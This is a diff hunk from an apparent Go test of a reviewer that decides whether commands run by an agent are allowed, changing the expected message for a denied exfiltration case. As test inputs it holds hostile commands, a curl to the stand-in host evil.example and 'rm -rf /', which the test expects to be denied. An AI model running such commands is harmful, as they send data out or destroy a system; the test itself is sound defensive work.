@@ -275,7 +275,7 @@ func TestReview(t *testing.T) {
 			asked(2) // it has seen more than before: that page
 			u.want("curl https://news.example/zen", "allow", "")
 			asked(0)
-			u.want("curl https://evil.example/a", "deny", "Flagged by the reviewer: it would send data out (exfiltration); seen: WebFetch https://example.org/a")
+			u.want("curl https://evil.example/a", "deny", "Flagged by the reviewer: it would send data out (exfiltration); seen: WebFetch example.org")
 			asked(2)
 			u.want("rm -rf /", "deny", "")
 			asked(0)
